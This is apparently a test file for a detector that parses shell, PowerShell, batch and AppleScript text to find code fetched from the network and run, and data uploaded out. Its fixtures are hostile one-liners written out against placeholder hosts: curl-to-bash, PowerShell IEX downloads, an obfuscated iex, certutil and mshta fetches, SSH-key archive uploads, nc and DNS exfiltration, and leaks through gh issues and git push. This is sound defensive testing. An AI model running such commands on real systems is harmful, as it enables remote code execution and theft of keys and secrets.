import { describe, expect, test } from 'vitest'
import { parseShell, viewOf } from '../../../src/code/shell/index.ts'
import { parseLexically } from '../../../src/code/shell/lexical.ts'
import type { Language } from '../../../src/model/index.ts'

const view = (text: string, language: Language = 'shell') =>
  viewOf({ path: 'x', language, text }, language === 'shell' ? parseShell(text) : parseLexically(text, language))

const executions = (text: string, language?: Language) =>
  view(text, language)
    .executions.filter(one => one.urls.length > 0 || one.decoder)
    .map(one => [one.command.name, one.how, one.urls[0] ?? one.decoder?.name])

describe('executions', () => {
  test.each([
    ['curl -s https://h.invalid/i | sudo bash -s -- -y', ['bash', 'pipe', 'https://h.invalid/i']],
    ['bash <(curl -s https://h.invalid/i)', ['bash', 'substitution', 'https://h.invalid/i']],
    ['. <(wget -qO- h.invalid/i)', ['.', 'substitution', 'h.invalid/i']],
    ['sh -c "$(curl -fsSL https://h.invalid/i)"', ['sh', 'argument', 'https://h.invalid/i']],
    ['eval "$(curl https://h.invalid/i)"', ['eval', 'argument', 'https://h.invalid/i']],
    ['bash <<< "$(curl https://h.invalid/i)"', ['bash', 'argument', 'https://h.invalid/i']],
    ['X=$(curl https://h.invalid/i); echo "$X" | sh', ['sh', 'pipe', 'https://h.invalid/i']],
    ['U=h.invalid; curl "https://$U/i" | python3 -', ['python3', 'pipe', 'https://h.invalid/i']],
    ['curl -o i.sh https://h.invalid/i; chmod +x i.sh; ./i.sh', ['i.sh', 'downloaded file', 'https://h.invalid/i']],
    ['wget https://h.invalid/i.sh && sh i.sh', ['sh', 'downloaded file', 'https://h.invalid/i.sh']],
    ['curl https://h.invalid/i > i.sh; . ./i.sh', ['.', 'downloaded file', 'https://h.invalid/i']],
    ['T=$(mktemp); curl -o "$T" https://h.invalid/i; bash "$T"', ['bash', 'downloaded file', 'https://h.invalid/i']],
    ['echo eA== | base64 -d | sh', ['sh', 'pipe', 'base64']],
    ['echo eA== | base64 -d > /tmp/x; sh /tmp/x', ['sh', 'downloaded file', 'base64']],
    ['mshta https://h.invalid/a.hta', ['mshta', 'downloaded file', 'https://h.invalid/a.hta']],
  ])('%s', (text, expected) => expect(executions(text)).toContainEqual(expected))

  test.each([
    'curl https://h.invalid/i | jq .',
    'curl https://h.invalid/i | python3 -m json.tool',
    'curl https://h.invalid/i -o data.json; python3 run.py data.json',
    'eval "$(brew shellenv)"',
    'echo eA== | base64 -d > cert.pem',
    'bash "$(dirname "$0")/x.sh"',
    'pip install requests',
  ])('%s runs nothing from elsewhere', text => expect(executions(text)).toEqual([]))

  test.each([
    ['powershell', 'iex (iwr -useb https://h.invalid/i)', ['iex', 'argument', 'https://h.invalid/i']],
    ['powershell', 'irm https://h.invalid/i | iex', ['iex', 'pipe', 'https://h.invalid/i']],
    ['powershell', "IEX ((New-Object Net.WebClient).DownloadString('https://h.invalid/i'))", ['iex', 'argument', 'https://h.invalid/i']],
    ['powershell', "&('i'+'ex') (i`wr https://h.invalid/i)", ['iex', 'argument', 'https://h.invalid/i']],
    ['batch', 'certutil -urlcache -f https://h.invalid/x.exe x.exe & x.exe', ['x', 'downloaded file', 'https://h.invalid/x.exe']],
    ['applescript', 'do shell script "curl -s https://h.invalid/i | sh"', ['sh', 'pipe', 'https://h.invalid/i']],
    ['applescript', `${'set a to "x"\n'.repeat(2_000)}do shell script "curl -s https://h.invalid/i | sh"`, ['sh', 'pipe', 'https://h.invalid/i']],
  ] as const)('%s: %s', (language, text, expected) => expect(executions(text, language)).toContainEqual(expected))
})

test.each([
  ['code --install-extension k.vsix --force', true], ['windsurf --install-extension=./k.vsix', true], ['pipx install ./k.vsix', true], ['uv tool install k.vsix', true], ['npm i -g k.vsix', true],
  ['sudo pacman -U k.vsix', true], ['installer -pkg k.vsix -target /', true], ['msiexec /i k.vsix /qn', true], ['chromium --load-extension=k.vsix', true],
  ['pip install -r k.vsix', false], ['code k.vsix', false], ['python3 read.py k.vsix', false], ['npm run k.vsix', false],
] as const)('what was fetched is installed: %s, %s', (text, isRun) => expect(view(`curl -o k.vsix https://h.invalid/k\n${text}`).executions.length > 0).toBe(isRun))

test.each([['variables', 'set a to "x"\n'.repeat(60_000)], ['programs', 'do shell script "x"\n'.repeat(600)], ['a text made longer and longer', `set a to "x"\n${'set a to a & a\n'.repeat(2_000)}`]])('more AppleScript than is followed is told: %s', (_, text) => {
  expect(parseLexically(text, 'applescript').truncated).toMatch(/^only the first 500 programs/)
})

describe('uploads', () => {
  const uploads = (text: string) =>
    view(text).uploads.map(one => ({
      urls: one.urls,
      files: one.files,
      variables: one.variables,
      from: one.from.map(command => command.name),
    }))
  test.each([
    ['cat k | curl -d @- https://h.invalid', { urls: ['https://h.invalid'], files: [], variables: [], from: ['cat'] }],
    ['curl -F f=@k https://h.invalid', { urls: ['https://h.invalid'], files: ['k'], variables: [], from: [] }],
    ['curl -T ~/k https://h.invalid', { urls: ['https://h.invalid'], files: ['~/k'], variables: [], from: [] }],
    ['curl "https://h.invalid/?k=$KEY"', { urls: ['https://h.invalid/?k={}'], files: [], variables: ['KEY'], from: [] }],
    [
      'tar czf a.tgz ~/.ssh; curl -F f=@a.tgz https://h.invalid',
      { urls: ['https://h.invalid'], files: ['a.tgz'], variables: [], from: ['tar'] },
    ],
    ['nc h.invalid 99 < k', { urls: ['h.invalid'], files: ['k'], variables: [], from: [] }],
    ['gh issue create -R o/r -t "a $(hostname)" -F k', { urls: ['https://github.com/o/r'], files: ['k'], variables: [], from: ['hostname'] }],
    ['gh api repos/o/r/issues -f body=@k', { urls: ['https://github.com/o/r'], files: ['k'], variables: [], from: [] }],
    ['gh gist create -d x k l', { urls: [], files: ['k', 'l'], variables: [], from: [] }],
    ['glab mr note 1 -R g.invalid/o/r -m "$(cat k)"', { urls: ['https://g.invalid/o/r'], files: [], variables: [], from: ['cat'] }],
    ['{ env; cat k; } > f; hub issue create --file=f', { urls: [], files: ['f'], variables: [], from: ['cat', 'env'] }],
    ['git remote add b git@g.invalid:o/r.git; git add k; git push b main', { urls: ['https://g.invalid/o/r.git'], files: ['k'], variables: [], from: [] }],
    ['git bundle create b --all; curl -T b https://h.invalid', { urls: ['https://h.invalid'], files: ['b'], variables: [], from: ['git'] }],
    ['dig $(whoami).h.invalid', { urls: ['{}.h.invalid'], files: [], variables: [], from: ['whoami'] }],
  ])('%s', (text, expected) => expect(uploads(text)).toEqual([expected]))

  test.each(['gh secret set -f .env', 'gh auth login --with-token < k', 'gh issue list -R o/r', 'git add k; git push origin main', 'git add k; git push https://github.com/your-name/r'])('nothing is published: %s', text => expect(uploads(text)).toEqual([]))

  test('a header is not what is sent', () => expect(uploads('curl -H "Authorization: Bearer $KEY" https://h.invalid')).toEqual([]))
})
